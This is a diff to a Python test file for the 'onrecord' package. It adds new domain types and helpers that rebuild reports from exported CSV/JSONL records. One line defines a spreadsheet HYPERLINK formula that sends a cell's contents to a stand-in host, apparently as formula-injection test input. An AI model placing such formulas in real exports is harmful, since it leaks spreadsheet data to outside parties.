@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from dataclasses import replace
 from datetime import date
 from itertools import pairwise
@@ -17,13 +17,19 @@ from hypothesis import strategies as st
 from strategies import any_text, piles
 
 from onrecord.domain import (
+    Act,
     Actor,
     DateCandidate,
     DateEstimate,
     DateReason,
+    Declaration,
+    Expectation,
+    Happening,
+    Naming,
     Refusal,
     Report,
     Span,
+    Stance,
     Statement,
     TimeExpression,
 )
@@ -34,8 +40,10 @@ from onrecord.record import TABLES, DuplicateRow, Record, UnreadRow, open_record
 
 NAMES = [
     *("reports", "statements", "refusals", "actors", "offices", "instruments", "grounds", "lineage", "divergences"),
+    *("acts", "events", "commitments", "forecasts", "questions", "positions", "framing", "question_decisions"),
     *("identities", "decisions", "unread", "duplicates"),
 ]
+TOLD = ("happenings", "declarations", "expectations", "stances", "namings")
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
 TEXT = f"{FORMULA} said nobody. -1 degrees,\nthey “wrote” 😀."
 
@@ -200,9 +208,15 @@ def test_reports_can_be_made_again_from_jsonl(tmp_path: Path, pile: list[Report]
             descriptions=(),
             citations=(),
             statements=tuple(replace(statement, grounds=()) for statement in report.statements),
+            **{name: _without_places(getattr(report, name)) for name in TOLD},
         )
         for report in pile
     ]
+
+
+def _without_places(several: Sequence[Any]) -> tuple[Any, ...]:
+    """Two statements of the same words have one id, which then leads to neither place."""
+    return tuple(replace(each, statement=None) for each in several)
 
 
 @quick
@@ -282,7 +296,37 @@ def _made_again(folder: Path) -> list[Report]:
             estimate(row["said_on"]),
             *(span(row[name]) for name in ("negation", "hedge", "venue", "occasion")),
             tuple(map(actor, row["addressees"])),
+            act=act(row["act"]),
         )
+
+    def act(value: dict[str, Any] | None) -> Any:
+        if value is None:
+            return None
+        people = actor(value["actor"]), actor(value["recipient"])
+        return Act(value["code"], span(value["span"]), *people, value["mode"] or "")
+
+    def happening(row: dict[str, Any]) -> Happening:
+        words = span(row["clause"]), span(row["trigger"]), row["subject"], row["state"], act(row["act"])
+        rest = estimate(row["when"]), span(row["time"]), span(row["place"]), tuple(map(span, row["figures"]))
+        return Happening(*words, actor(row["actor"]), actor(row["recipient"]), *rest)
+
+    def declaration(row: dict[str, Any]) -> Declaration:
+        words = span(row["act"]), span(row["cue"]), row["kind"], row["polarity"], row["strength"]
+        people = actor(row["actor"]), actor(row["target"]), tuple(map(actor, row["also_bound"]))
+        when = estimate(row["deadline"]), span(row["deadline_words"])
+        return Declaration(*words, *people, span(row["condition"]), *when)
+
+    def expectation(row: dict[str, Any]) -> Expectation:
+        words = span(row["expected"]), span(row["cue"]), row["likelihood"], row["polarity"]
+        people = actor(row["actor"]), actor(row["of"])
+        return Expectation(*words, *people, span(row["condition"]), estimate(row["window"]), span(row["window_words"]))
+
+    def stance(row: dict[str, Any]) -> Stance:
+        words = span(row["matter"]), span(row["words"]), tuple(row["key"])
+        return Stance(*words, row["side"], row["strength"], actor(row["actor"]), span(row["condition"]))
+
+    def naming(row: dict[str, Any]) -> Naming:
+        return Naming(span(row), row["thing"], actor(row["actor"]))
 
     def refusal(row: dict[str, Any]) -> Refusal:
         words = (span(row[name]) for name in ("source", "cue", "matter"))
@@ -300,6 +344,12 @@ def _made_again(folder: Path) -> list[Report]:
                 statements=tuple(statement(next(found)) for _ in row["statements"]),
                 refusals=tuple(refusal(next(refused)) for _ in row["refusals"]),
                 published=estimate(row["published"]),
+                acts=tuple(map(act, row["acts"])),
+                happenings=tuple(map(happening, row["happenings"])),
+                declarations=tuple(map(declaration, row["declarations"])),
+                expectations=tuple(map(expectation, row["expectations"])),
+                stances=tuple(map(stance, row["stances"])),
+                namings=tuple(map(naming, row["namings"])),
                 **{
                     name: row[name]
                     for name in ("name", "text", "sha256", "encoding", "media_type", "title", "outlet", "url")
